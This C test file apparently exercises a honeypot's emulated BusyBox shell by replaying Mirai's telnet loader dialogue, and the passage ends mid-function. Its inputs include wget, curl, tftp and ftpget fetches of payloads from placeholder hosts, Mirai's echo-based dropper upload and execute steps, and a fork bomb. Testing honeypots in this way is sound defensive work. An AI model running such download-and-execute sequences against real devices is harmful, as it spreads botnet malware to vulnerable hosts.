/*
 * The emulated busybox shell: the whole Mirai scanner and loader dialogue replayed from the
 * transcription of the released source (tests/data/mirai/mirai_telnet_sequences.tsv), exact
 * dropper bytes, everyday commands, and hostile lines that must stay bounded.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "core/buf.h"
#include "core/error.h"
#include "emu/emu.h"
#include "emu/shell.h"

/* Room for the largest output of one line (64 KiB, doubled by "\r\n" line ends). */
#define OUT_MAX (256u * 1024u)

static struct emu_profile profile;
static struct emu_device device;

static void
make_device(const char *arch, const char *busybox)
{
	memset(&profile, 0, sizeof(profile));
	memset(&device, 0, sizeof(device));
	snprintf(profile.id, sizeof(profile.id), "test-dvr");
	snprintf(profile.uname, sizeof(profile.uname),
	         "Linux dvr 3.10.0 #1 SMP PREEMPT Thu Nov 9 19:22:19 CST 2017 %s GNU/Linux", arch);
	snprintf(profile.busybox, sizeof(profile.busybox), "%s", busybox);
	snprintf(profile.arch, sizeof(profile.arch), "%s", arch);
	profile.nservices = 2;
	profile.services[0].proto = EMU_TELNET;
	profile.services[0].port = 23;
	snprintf(profile.services[0].shell_prompt, sizeof(profile.services[0].shell_prompt), "%s", "[root@%h %w]# ");
	profile.services[1].proto = EMU_HTTP;
	profile.services[1].port = 80;
	device.profile = &profile;
	snprintf(device.hostname, sizeof(device.hostname), "dvr-a1b2c3");
	uint8_t mac[6] = { 0x00, 0x12, 0x41, 0xa1, 0xb2, 0xc3 };
	memcpy(device.mac, mac, 6);
	device.boot_time = (uint64_t)time(NULL) - (3 * 86400 + 4 * 3600 + 5 * 60);
	device.seed = 0x1234567890abcdefULL;
}

struct events {
	char kinds[512][16];
	char details[512][256];
	size_t n;
};

static void
on_event(void *arg, const char *kind, const char *detail)
{
	struct events *e = arg;
	if (e->n >= 512)
		return;
	snprintf(e->kinds[e->n], sizeof(e->kinds[0]), "%s", kind);
	snprintf(e->details[e->n], sizeof(e->details[0]), "%s", detail);
	e->n++;
}

static bool
has_event(const struct events *e, const char *kind, const char *detail)
{
	for (size_t i = 0; i < e->n; i++)
		if (strcmp(e->kinds[i], kind) == 0 && strcmp(e->details[i], detail) == 0)
			return true;
	return false;
}

/* Run a line; the output (NUL-terminated copy, may hold NULs before) stays in *b. */
static const char *
run(struct emu_shell *sh, struct toride_buf *b, const char *line, int *ret)
{
	toride_buf_reset(b);
	int r = emu_shell_exec(sh, line, b);
	if (ret != NULL)
		*ret = r;
	else
		assert_int_equal(r, EMU_CONTINUE);
	const char *s;
	assert_int_equal(toride_buf_cstr(b, &s), 0);
	return s;
}

static bool
out_has(const struct toride_buf *b, const char *needle)
{
	size_t n = strlen(needle);
	for (size_t i = 0; i + n <= b->len; i++)
		if (memcmp(b->data + i, needle, n) == 0)
			return true;
	return false;
}

static void
assert_out_has(const struct toride_buf *b, const char *needle)
{
	if (!out_has(b, needle)) {
		fprintf(stderr, "output lacks \"%s\":\n%.*s\n", needle, (int)b->len, (const char *)b->data);
		fail();
	}
}

/* ---- the Mirai dialogue ---- */

struct row {
	char component[16], step[8], send[1024], expect[512];
};

static size_t
load_rows(struct row *rows, size_t max)
{
	char path[1024];
	snprintf(path, sizeof(path), "%s/mirai/mirai_telnet_sequences.tsv", TORIDE_TEST_DATA);
	FILE *f = fopen(path, "r");
	assert_non_null(f);
	char line[2048];
	size_t n = 0;
	bool header = true;
	while (fgets(line, sizeof(line), f) != NULL && n < max) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '#' || line[0] == '\0')
			continue;
		if (header) {
			header = false;
			continue;
		}
		char *cols[5] = { 0 };
		char *p = line;
		for (int i = 0; i < 5; i++) {
			cols[i] = p;
			char *t = p != NULL ? strchr(p, '\t') : NULL;
			if (t != NULL)
				*t = '\0';
			p = t != NULL ? t + 1 : NULL;
		}
		assert_non_null(cols[3]);
		snprintf(rows[n].component, sizeof(rows[n].component), "%s", cols[0]);
		snprintf(rows[n].step, sizeof(rows[n].step), "%s", cols[1]);
		snprintf(rows[n].send, sizeof(rows[n].send), "%s", cols[3]);
		snprintf(rows[n].expect, sizeof(rows[n].expect), "%s", cols[4] != NULL ? cols[4] : "");
		n++;
	}
	fclose(f);
	return n;
}

/* Replace %s (in order from vals) and %d (port) in a send template. */
static void
fill(char *out, size_t outlen, const char *tmpl, const char *const *vals, size_t nvals)
{
	size_t o = 0, k = 0;
	for (size_t i = 0; tmpl[i] != '\0' && o + 1 < outlen; i++) {
		const char *ins = NULL;
		if (tmpl[i] == '%' && tmpl[i + 1] == 's') {
			ins = k < nvals ? vals[k++] : "";
			i++;
		} else if (tmpl[i] == '%' && tmpl[i + 1] == 'd') {
			ins = "80";
			i++;
		}
		if (ins == NULL) {
			out[o++] = tmpl[i];
			continue;
		}
		size_t n = strlen(ins);
		if (n > outlen - 1 - o)
			n = outlen - 1 - o;
		memcpy(out + o, ins, n);
		o += n;
	}
	out[o] = '\0';
}

/* "X: applet not found" named in an expect column, if any. */
static bool
expected_applet_reply(const char *expect, char *out, size_t outlen)
{
	const char *a = strstr(expect, ": applet not found");
	if (a == NULL)
		return false;
	const char *w = a;
	while (w > expect && w[-1] >= 'A' && w[-1] <= 'Z')
		w--;
	if (w == a)
		return false;
	snprintf(out, outlen, "%.*s: applet not found", (int)(a - w), w);
	return true;
}

/* The prompt check of the bot and loader: ends in one of ":>$#%" (after trailing blanks). */
static void
assert_prompt_ok(struct emu_shell *sh)
{
	char p[256];
	emu_shell_prompt(sh, p, sizeof(p));
	size_t n = strlen(p);
	while (n > 0 && p[n - 1] == ' ')
		n--;
	assert_true(n > 0);
	assert_non_null(strchr(":>$#%", p[n - 1]));
}

static void
test_mirai_dialogue(void **state)
{
	(void)state;
	make_device("armv7l", "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	static struct row rows[64];
	size_t nrows = load_rows(rows, 64);
	assert_true(nrows >= 25);

	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	static struct events ev;
	memset(&ev, 0, sizeof(ev));
	emu_shell_set_event_cb(sh, on_event, &ev);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);

	const char *cnc = "198.51.100.7";
	char writable[64] = "";
	char mounts[16][64];
	size_t nmounts = 0;
	size_t ran = 0;
	static uint8_t dropper[300];
	for (size_t i = 0; i < sizeof(dropper); i++)
		dropper[i] = (uint8_t)(i * 7 + 3);

	for (size_t ri = 0; ri < nrows; ri++) {
		struct row *rw = &rows[ri];
		/* Login steps belong to the telnet server; the shell starts after the password. */
		if (rw->send[0] == '(' || rw->send[0] == '<' || strstr(rw->send, "(username)") != NULL ||
		    strstr(rw->send, "(password)") != NULL)
			continue;
		if (strcmp(rw->step, "22") == 0) {
			/* The loader's give-up: ^C ^Z then kill %1; must not crash, stays open. */
			run(sh, &b, "\x03\x1a" "kill %1", NULL);
			run(sh, &b, "rm -rf dvrHelper upnp", NULL);
			assert_int_equal(emu_shell_read_file(sh, "dvrHelper", &(const uint8_t *){ NULL }, &(size_t){ 0 }),
			                 TORIDE_ENOTFOUND);
			ran++;
			continue;
		}
		const char *vals[8] = { 0 };
		size_t nv = 0;
		char line[4096];
		if (strcmp(rw->step, "9") == 0 && strcmp(rw->component, "loader") == 0) {
			/* One write test per rw mount, as the loader does with the /proc/mounts it read. */
			assert_true(nmounts > 0);
			for (size_t m = 0; m < nmounts; m++) {
				/* The template has four %s: after kami, and the dir three times. */
				const char *mv4[4] = { mounts[m], mounts[m], mounts[m], mounts[m] };
				fill(line, sizeof(line), rw->send, mv4, 4);
				run(sh, &b, line, NULL);
				char kami[80];
				snprintf(kami, sizeof(kami), "kami%s\r\n", mounts[m]);
				bool ok = out_has(&b, kami);
				bool expect_ok = strcmp(mounts[m], "/tmp") == 0 || strcmp(mounts[m], "/var") == 0 ||
				                 strcmp(mounts[m], "/dev") == 0 || strcmp(mounts[m], "/dev/shm") == 0;
				if (ok != expect_ok)
					fprintf(stderr, "mount %s: %.*s\n", mounts[m], (int)b.len, (const char *)b.data);
				assert_int_equal(ok, expect_ok);
				if (ok && writable[0] == '\0')
					snprintf(writable, sizeof(writable), "%s", mounts[m]);
				/* The test file is removed again. */
				char nippon[96];
				snprintf(nippon, sizeof(nippon), "%s/.nippon", mounts[m]);
				assert_int_equal(emu_shell_read_file(sh, nippon, &(const uint8_t *){ NULL }, &(size_t){ 0 }),
				                 TORIDE_ENOTFOUND);
			}
			assert_string_equal(writable, "/dev");
			ran++;
			continue;
		}
		if (strcmp(rw->step, "12") == 0 || strcmp(rw->step, "13") == 0) {
			vals[0] = vals[1] = vals[2] = writable;
			nv = 3;
		} else if (strcmp(rw->step, "19a") == 0) {
			vals[0] = cnc, vals[1] = "mirai", vals[2] = "arm7";
			nv = 3;
		} else if (strcmp(rw->step, "19b") == 0) {
			vals[0] = "dvrHelper", vals[1] = "mirai", vals[2] = "arm7", vals[3] = cnc;
			nv = 4;
		} else if (strncmp(rw->step, "20", 2) == 0) {
			vals[0] = "mirai", vals[1] = "arm7";
			nv = 2;
		}
		/* 19c holds the first command and then the repeated echo in the expect column. */
		fill(line, sizeof(line), rw->send, vals, nv);
		int ret;
		run(sh, &b, line, &ret);
		assert_int_equal(ret, EMU_CONTINUE);
		ran++;
		assert_prompt_ok(sh);

		char want[64];
		/* Step 18 names the replies that select an upload method, not ones that must come. */
		if (strcmp(rw->step, "18") != 0 && expected_applet_reply(rw->expect, want, sizeof(want)))
			assert_out_has(&b, want);
		assert_false(out_has(&b, "ncorrect"));
		assert_false(out_has(&b, "listening tun0"));

		if (strcmp(rw->component, "bot") == 0 && strcmp(rw->step, "8") == 0)
			assert_out_has(&b, "MIRAI: applet not found");
		if (strcmp(rw->step, "8") == 0 && strcmp(rw->component, "loader") == 0) {
			/* Keep the rw mounts for step 9. */
			const char *s = (const char *)b.data;
			const char *end = s + b.len;
			while (s < end && nmounts < 16) {
				const char *nl = memchr(s, '\n', (size_t)(end - s));
				if (nl == NULL)
					break;
				char l[256], dev[64], dir[64], type[64], opts[128];
				snprintf(l, sizeof(l), "%.*s", (int)(nl - s), s);
				if (sscanf(l, "%63s %63s %63s %127s", dev, dir, type, opts) == 4 && strncmp(opts, "rw", 2) == 0)
					snprintf(mounts[nmounts++], sizeof(mounts[0]), "%s", dir);
				s = nl + 1;
			}
			assert_true(nmounts >= 4);
		}
		if (strcmp(rw->step, "13") == 0) {
			assert_int_equal(b.len, 0);
		}
		if (strcmp(rw->step, "14") == 0) {
			const uint8_t *d;
			size_t dl;
			assert_int_equal(emu_shell_read_file(sh, "dvrHelper", &d, &dl), 0);
			assert_int_equal(dl, 0);
		}
		if (strcmp(rw->step, "15") == 0) {
			/* ELF32, little endian, e_machine 40 (ARM): what the loader reads for the arch. */
			assert_true(b.len >= 52);
			assert_memory_equal(b.data, "\x7f" "ELF\x01\x01\x01", 7);
			assert_int_equal(b.data[18], 40);
			assert_int_equal(b.data[19], 0);
		}
		if (strcmp(rw->step, "17") == 0)
			assert_out_has(&b, "ARMv7");
		if (strcmp(rw->step, "18") == 0) {
			/* wget and tftp exist: the loader picks wget. */
			assert_false(out_has(&b, "wget: applet not found"));
			assert_false(out_has(&b, "tftp: applet not found"));
			assert_out_has(&b, "ECCHI: applet not found");
		}
		if (strcmp(rw->step, "19a") == 0) {
			char url[128];
			snprintf(url, sizeof(url), "http://%s:80/bins/mirai.arm7", cnc);
			assert_true(has_event(&ev, "download", url));
			assert_out_has(&b, "wget: can't connect to remote host");
		}
		if (strcmp(rw->step, "19b") == 0) {
			char url[128];
			snprintf(url, sizeof(url), "tftp://%s/mirai.arm7", cnc);
			assert_true(has_event(&ev, "download", url));
			assert_out_has(&b, "timeout");
		}
		if (strcmp(rw->step, "19c") == 0) {
			/* The echo upload: `echo -ne '\xHH...' > upnp` then `>>`, 128 bytes a line. */
			const char *tmpl = strstr(rw->expect, "echo -ne");
			assert_non_null(tmpl);
			const char *tend = strstr(tmpl, "  (");
			assert_non_null(tend);
			char tpl[128];
			snprintf(tpl, sizeof(tpl), "%.*s", (int)(tend - tmpl), tmpl);
			for (size_t off = 0; off < sizeof(dropper); off += 128) {
				size_t n = sizeof(dropper) - off < 128 ? sizeof(dropper) - off : 128;
				char hex[128 * 4 + 1];
				for (size_t k = 0; k < n; k++)
					snprintf(hex + 4 * k, 5, "\\x%02x", dropper[off + k]);
				const char *ev3[2] = { hex, off == 0 ? ">" : ">>" };
				fill(line, sizeof(line), tpl, ev3, 2);
				run(sh, &b, line, NULL);
				assert_out_has(&b, "ECCHI: applet not found");
			}
			const uint8_t *d;
			size_t dl;
			assert_int_equal(emu_shell_read_file(sh, "upnp", &d, &dl), 0);
			assert_int_equal(dl, sizeof(dropper));
			assert_memory_equal(d, dropper, sizeof(dropper));
		}
		if (strncmp(rw->step, "20", 2) == 0) {
			assert_out_has(&b, "IHCCE: applet not found");
			char detail[128];
			snprintf(detail, sizeof(detail), "%s/dvrHelper mirai.arm7", writable);
			assert_true(has_event(&ev, "execute", detail));
		}
		if (strcmp(rw->step, "21") == 0) {
			assert_int_equal(emu_shell_read_file(sh, "upnp", &(const uint8_t *){ NULL }, &(size_t){ 0 }),
			                 TORIDE_ENOTFOUND);
		}
	}
	/* Every scanner and loader command row was replayed. */
	assert_true(ran >= 22);
	assert_true(has_event(&ev, "command", "/bin/busybox MIRAI"));
	toride_buf_free(&b);
	emu_shell_free(sh);
}

static void
test_echo_dropper_exact(void **state)
{
	(void)state;
	make_device("mips", "BusyBox v1.12.1 (2012-05-30 13:18:31 CST) multi-call binary");
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	run(sh, &b, "cd /tmp", NULL);
	/* All 256 byte values, NUL, newline and quote included. */
	uint8_t want[512];
	for (size_t i = 0; i < sizeof(want); i++)
		want[i] = (uint8_t)(i & 0xff);
	for (size_t off = 0; off < sizeof(want); off += 128) {
		char line[1024];
		size_t o = (size_t)snprintf(line, sizeof(line), "/bin/busybox echo -ne '");
		for (size_t k = 0; k < 128; k++)
			o += (size_t)snprintf(line + o, sizeof(line) - o, "\\x%02x", want[off + k]);
		snprintf(line + o, sizeof(line) - o, "' %s .d; /bin/busybox ECCHI", off == 0 ? ">" : ">>");
		run(sh, &b, line, NULL);
		assert_out_has(&b, "ECCHI: applet not found");
	}
	const uint8_t *d;
	size_t dl;
	assert_int_equal(emu_shell_read_file(sh, "/tmp/.d", &d, &dl), 0);
	assert_int_equal(dl, sizeof(want));
	assert_memory_equal(d, want, sizeof(want));
	/* Octal escapes and \c as busybox echo -e has them. */
	run(sh, &b, "echo -e '\\0101\\102\\x43\\tX\\cZZ' > o; cat o", NULL);
	assert_string_equal((const char *)b.data, "ABC\tX");
	/* MIPS big endian: e_ident[EI_DATA] = 2, e_machine 8. */
	run(sh, &b, "cat /bin/busybox", NULL);
	assert_true(b.len >= 52);
	assert_int_equal(b.data[5], 2);
	assert_int_equal(b.data[18], 0);
	assert_int_equal(b.data[19], 8);
	toride_buf_free(&b);
	emu_shell_free(sh);
}

static void
test_everyday_commands(void **state)
{
	(void)state;
	make_device("armv7l", "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	struct events ev;
	memset(&ev, 0, sizeof(ev));
	emu_shell_set_event_cb(sh, on_event, &ev);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	char prompt[128];

	emu_shell_prompt(sh, prompt, sizeof(prompt));
	assert_string_equal(prompt, "[root@dvr-a1b2c3 /]# ");
	run(sh, &b, "cd /var; pwd", NULL);
	assert_string_equal((const char *)b.data, "/var\r\n");
	emu_shell_prompt(sh, prompt, sizeof(prompt));
	assert_string_equal(prompt, "[root@dvr-a1b2c3 /var]# ");
	run(sh, &b, "cd /nonexistent", NULL);
	assert_string_equal((const char *)b.data, "sh: cd: can't cd to /nonexistent\r\n");
	run(sh, &b, "cd ..; ls", NULL);
	assert_out_has(&b, "bin");
	assert_out_has(&b, "proc");
	assert_out_has(&b, "tmp");
	run(sh, &b, "ls -l /bin", NULL);
	assert_out_has(&b, "busybox");
	assert_out_has(&b, "sh -> busybox");
	run(sh, &b, "cat /etc/passwd", NULL);
	assert_out_has(&b, "root:x:0:0:root:/root:/bin/sh\r\n");
	run(sh, &b, "uname -a", NULL);
	assert_string_equal((const char *)b.data,
	                    "Linux dvr-a1b2c3 3.10.0 #1 SMP PREEMPT Thu Nov 9 19:22:19 CST 2017 armv7l GNU/Linux\r\n");
	run(sh, &b, "uname -m; hostname; whoami; id", NULL);
	assert_string_equal((const char *)b.data,
	                    "armv7l\r\ndvr-a1b2c3\r\nroot\r\nuid=0(root) gid=0(root) groups=0(root)\r\n");
	run(sh, &b, "ifconfig", NULL);
	assert_out_has(&b, "HWaddr 00:12:41:A1:B2:C3");
	run(sh, &b, "uptime", NULL);
	assert_out_has(&b, " up 3 days,  4:05, ");
	run(sh, &b, "free", NULL);
	assert_out_has(&b, "Mem:");
	run(sh, &b, "cat /proc/meminfo", NULL);
	assert_out_has(&b, "MemTotal:");
	run(sh, &b, "ps", NULL);
	assert_out_has(&b, "  PID USER       VSZ STAT COMMAND");
	assert_out_has(&b, "/usr/sbin/telnetd");
	assert_out_has(&b, "/usr/sbin/httpd");
	run(sh, &b, "frobnicate now", NULL);
	assert_string_equal((const char *)b.data, "sh: frobnicate: not found\r\n");
	run(sh, &b, "busybox --help", NULL);
	assert_out_has(&b, "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	assert_out_has(&b, "Currently defined functions:");
	assert_out_has(&b, "wget");
	run(sh, &b, "busybox MIRAI", NULL);
	assert_string_equal((const char *)b.data, "MIRAI: applet not found\r\n");

	/* Operators, pipes, quotes, variables and substitution. */
	run(sh, &b, "echo a && echo b || echo c; false || echo d; false && echo e", NULL);
	assert_string_equal((const char *)b.data, "a\r\nb\r\nd\r\n");
	run(sh, &b, "cat /proc/cpuinfo | grep 'model name' | wc -l", NULL);
	assert_string_equal((const char *)b.data, "        1\r\n");
	run(sh, &b, "cat /etc/passwd | head -n 1", NULL);
	assert_string_equal((const char *)b.data, "root:x:0:0:root:/root:/bin/sh\r\n");
	run(sh, &b, "X=5; Y=\"two words\"; echo $X ${X}x \"$Y\" '$X' \\$X", NULL);
	assert_string_equal((const char *)b.data, "5 5x two words $X $X\r\n");
	run(sh, &b, "echo \"arch=$(uname -m)\" `hostname`", NULL);
	assert_string_equal((const char *)b.data, "arch=armv7l dvr-a1b2c3\r\n");
	run(sh, &b, "false; echo $?; true; echo $?", NULL);
	assert_string_equal((const char *)b.data, "1\r\n0\r\n");
	run(sh, &b, "for i in 1 2 3; do echo n$i; done", NULL);
	assert_string_equal((const char *)b.data, "n1\r\nn2\r\nn3\r\n");
	run(sh, &b, "if [ -d /tmp ]; then echo yes; else echo no; fi", NULL);
	assert_string_equal((const char *)b.data, "yes\r\n");

	/* Files: writable tmpfs, read-only root, /proc. */
	run(sh, &b, "echo hi > /tmp/x; cat /tmp/x; rm /tmp/x; cat /tmp/x", NULL);
	assert_string_equal((const char *)b.data, "hi\r\ncat: can't open '/tmp/x': No such file or directory\r\n");
	assert_true(has_event(&ev, "write", "/tmp/x"));
	run(sh, &b, "echo x > /bin/x", NULL);
	assert_string_equal((const char *)b.data, "sh: can't create /bin/x: Read-only file system\r\n");
	run(sh, &b, "echo x 2>/dev/null >/dev/null; ls /nope 2>/dev/null; echo done", NULL);
	assert_string_equal((const char *)b.data, "done\r\n");
	run(sh, &b, "ls /nope 2>&1 | grep -c such", NULL);
	assert_string_equal((const char *)b.data, "1\r\n");

	/* Downloads are recorded, never made; curl is not on the device. */
	run(sh, &b, "cd /tmp; wget http://203.0.113.9/x.sh; curl -O http://203.0.113.9/y.sh", NULL);
	assert_out_has(&b, "Connecting to 203.0.113.9 (203.0.113.9:80)");
	assert_out_has(&b, "sh: curl: not found");
	assert_true(has_event(&ev, "download", "http://203.0.113.9/x.sh"));
	assert_true(has_event(&ev, "download", "http://203.0.113.9/y.sh"));
	run(sh, &b, "ftpget -u a -p b 203.0.113.9 x.bin x.bin", NULL);
	assert_true(has_event(&ev, "download", "ftp://203.0.113.9/x.bin"));

	/* An uploaded program is not run: without x bit it is refused, with it nothing happens. */
	run(sh, &b, "echo -ne '\\x7fELF' > bot; ./bot", NULL);
	assert_string_equal((const char *)b.data, "sh: ./bot: Permission denied\r\n");
	run(sh, &b, "chmod +x bot; ./bot arg", NULL);
	assert_int_equal(b.len, 0);
	assert_true(has_event(&ev, "execute", "/tmp/bot arg"));

	/* sh nests; exit leaves the inner shell, then the session. */
	int ret;
	run(sh, &b, "sh", &ret);
	assert_int_equal(ret, EMU_CONTINUE);
	run(sh, &b, "exit", &ret);
	assert_int_equal(ret, EMU_CONTINUE);
	run(sh, &b, "exit", &ret);
	assert_int_equal(ret, EMU_CLOSE);

	emu_shell_set_user(sh, "admin");
	run(sh, &b, "whoami", NULL);
	assert_string_equal((const char *)b.data, "admin\r\n");
	emu_shell_set_prompt(sh, "%h> ");
	emu_shell_prompt(sh, prompt, sizeof(prompt));
	assert_string_equal(prompt, "dvr-a1b2c3> ");
	toride_buf_free(&b);
	emu_shell_free(sh);
}

static void
test_no_profile_defaults(void **state)
{
	(void)state;
	struct emu_device d;
	memset(&d, 0, sizeof(d));
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &d), 0);
	char prompt[16];
	emu_shell_prompt(sh, prompt, sizeof(prompt));
	assert_string_equal(prompt, "# ");
	/* A tiny buffer still gets a terminated prompt. */
	emu_shell_prompt(sh, prompt, 1);
	assert_string_equal(prompt, "");
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	run(sh, &b, "/bin/busybox ECCHI", NULL);
	assert_string_equal((const char *)b.data, "ECCHI: applet not found\r\n");
	toride_buf_free(&b);
	emu_shell_free(sh);
}

static size_t
count_lines(const struct toride_buf *b, const char *line)
{
	size_t n = 0, ll = strlen(line);
	for (size_t i = 0; i + ll <= b->len; i++)
		if (memcmp(b->data + i, line, ll) == 0 && (i == 0 || b->data[i - 1] == '\n'))
			n++;
	return n;
}

static void
test_loops_bounded(void **state)
{
	(void)state;
	make_device("armv7l", "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	run(sh, &b, "while true; do echo x; done", NULL);
	assert_int_equal(count_lines(&b, "x\r\n"), EMU_SHELL_LOOP_MAX);
	run(sh, &b, "until false; do echo y; done; echo after", NULL);
	assert_int_equal(count_lines(&b, "y\r\n"), EMU_SHELL_LOOP_MAX);
	/* The budget is per line: the next line runs normally. */
	run(sh, &b, "echo next", NULL);
	assert_string_equal((const char *)b.data, "next\r\n");
	/* Nested loops share one budget. */
	run(sh, &b, "for a in 1 2 3 4 5 6 7 8 9 10; do while true; do echo z; done; done", NULL);
	assert_true(count_lines(&b, "z\r\n") <= EMU_SHELL_LOOP_MAX);
	/* Output is capped per line even when each iteration prints a lot. */
	run(sh, &b, "while :; do cat /proc/cpuinfo /proc/cpuinfo /proc/cpuinfo; done", NULL);
	assert_true(b.len <= 2 * EMU_SHELL_OUT_MAX);
	assert_true(b.len >= EMU_SHELL_OUT_MAX);
	toride_buf_free(&b);
	emu_shell_free(sh);
}

static void
test_hostile_lines(void **state)
{
	(void)state;
	make_device("armv7l", "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	int ret;

	/* A huge line is refused, not run. */
	size_t big = 100000;
	char *line = malloc(big + 1);
	assert_non_null(line);
	memset(line, 'a', big);
	line[big] = '\0';
	run(sh, &b, line, &ret);
	assert_int_equal(ret, EMU_CONTINUE);
	assert_string_equal((const char *)b.data, "sh: line too long\r\n");

	/* Deep nesting of every kind stays bounded. */
	static const char *const opens[] = { "(", "{ ", "$(echo ", "if true; then ", "`echo " };
	for (size_t k = 0; k < sizeof(opens) / sizeof(opens[0]); k++) {
		size_t o = 0;
		while (o + strlen(opens[k]) < 8000) {
			memcpy(line + o, opens[k], strlen(opens[k]));
			o += strlen(opens[k]);
		}
		line[o] = '\0';
		run(sh, &b, line, &ret);
		assert_int_equal(ret, EMU_CONTINUE);
	}
	/* Many nested substitutions that are well formed. */
	size_t o = 0;
	for (int i = 0; i < 200; i++)
		o += (size_t)snprintf(line + o, big - o, "$(echo ");
	o += (size_t)snprintf(line + o, big - o, "x");
	for (int i = 0; i < 200; i++)
		line[o++] = ')';
	line[o] = '\0';
	char cmd[8100];
	snprintf(cmd, sizeof(cmd), "echo %s", line);
	run(sh, &b, cmd, &ret);
	assert_int_equal(ret, EMU_CONTINUE);

	/* The fork bomb does not fork; the session goes on. */
	run(sh, &b, ":(){ :|:& };:", NULL);
	assert_out_has(&b, "syntax error");
	run(sh, &b, "echo alive", NULL);
	assert_string_equal((const char *)b.data, "alive\r\n");

	/* Control bytes, unterminated quotes, stray operators. */
	run(sh, &b, "echo \x01\x02\x7f\xff", NULL);
	run(sh, &b, "echo 'open", NULL);
	assert_out_has(&b, "syntax error");
	run(sh, &b, ";; | && || >", NULL);
	assert_out_has(&b, "syntax error");
	run(sh, &b, "ls >", NULL);
	assert_out_has(&b, "syntax error");

	/* Files and bytes are capped. */
	/* 1 MiB of data at most: each echo writes ~4 KiB (a literal: the variables are full). */
	memset(line, 'B', 4000);
	line[4000] = '\0';
	snprintf(cmd, sizeof(cmd), "cd /var; while true; do echo %.4000s >> big; done", line);
	run(sh, &b, cmd, NULL);
	const uint8_t *d;
	size_t dl;
	assert_int_equal(emu_shell_read_file(sh, "/var/big", &d, &dl), 0);
	assert_true(dl <= EMU_SHELL_FS_BYTES);
	assert_true(dl > EMU_SHELL_FS_BYTES - 8192);
	assert_out_has(&b, "No space left on device");
	run(sh, &b, "cd /tmp; for i in $(echo 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20); do "
	            "for j in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do touch f$i$j; done; done", NULL);
	assert_out_has(&b, "No space left on device");

	/* Long paths are refused, not overflowed. */
	o = (size_t)snprintf(cmd, sizeof(cmd), "cd /tmp; mkdir -p ");
	for (int i = 0; i < 100; i++)
		o += (size_t)snprintf(cmd + o, sizeof(cmd) - o, "abcdefgh/");
	run(sh, &b, cmd, NULL);
	assert_out_has(&b, "File name too long");

	/* Variables are capped (the last test here: a full table leaves loops without their variable). */
	for (int i = 0; i < EMU_SHELL_VARS_MAX + 20; i++) {
		snprintf(cmd, sizeof(cmd), "V%d=%d", i, i);
		run(sh, &b, cmd, NULL);
	}
	run(sh, &b, "echo $V0 $V10", NULL);
	assert_string_equal((const char *)b.data, "0 10\r\n");
	run(sh, &b, "V200=x", NULL);
	assert_out_has(&b, "too many variables");

	free(line);
	toride_buf_free(&b);
	emu_shell_free(sh);
}


/* ---- evidence through the device's observer ---- */

struct obslog {
	/* Files handed over and events, in one sequence: "F path size" or "E kind detail". */
	char items[64][160];
	uint8_t data[16][512];
	size_t datalen[16];
	size_t nfiles;
	size_t n;
};

static void
obs_event(void *arg, const char *kind, const char *detail)
{
	struct obslog *l = arg;
	if (l->n < 64)
		snprintf(l->items[l->n++], sizeof(l->items[0]), "E %s %s", kind, detail);
}

static void
obs_file(void *arg, const char *path, const uint8_t *data, size_t len)
{
	struct obslog *l = arg;
	if (l->n < 64)
		snprintf(l->items[l->n++], sizeof(l->items[0]), "F %s %zu", path, len);
	if (l->nfiles < 16) {
		size_t k = len < sizeof(l->data[0]) ? len : sizeof(l->data[0]);
		memcpy(l->data[l->nfiles], data, k);
		l->datalen[l->nfiles++] = len;
	}
}

static size_t
obs_count(const struct obslog *l, const char *item)
{
	size_t n = 0;
	for (size_t i = 0; i < l->n; i++)
		n += strcmp(l->items[i], item) == 0;
	return n;
}

static size_t
obs_index(const struct obslog *l, const char *item)
{
	for (size_t i = 0; i < l->n; i++)
		if (strcmp(l->items[i], item) == 0)
			return i;
	fprintf(stderr, "no observer item \"%s\"\n", item);
	fail();
	return 0;
}

static void
test_file_evidence(void **state)
{
	(void)state;
	make_device("armv7l", "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	static struct obslog log;
	memset(&log, 0, sizeof(log));
	const struct emu_observer obs = { .shell_event = obs_event, .file = obs_file };
	device.obs = &obs;
	device.obs_arg = &log;
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);

	/* The Mirai echo path: a dropper written 128 bytes a line, made executable, run. */
	uint8_t drop[200];
	memcpy(drop, "\x7f" "ELF\x01\x01\x01", 7);
	for (size_t i = 7; i < sizeof(drop); i++)
		drop[i] = (uint8_t)(i * 13 + 1);
	run(sh, &b, "cd /dev/shm; /bin/busybox cp /bin/echo upnp; > upnp; /bin/busybox chmod 777 upnp", NULL);
	for (size_t off = 0; off < sizeof(drop); off += 128) {
		char line[1024];
		size_t o = (size_t)snprintf(line, sizeof(line), "echo -ne '");
		for (size_t k = off; k < sizeof(drop) && k < off + 128; k++)
			o += (size_t)snprintf(line + o, sizeof(line) - o, "\\x%02x", drop[k]);
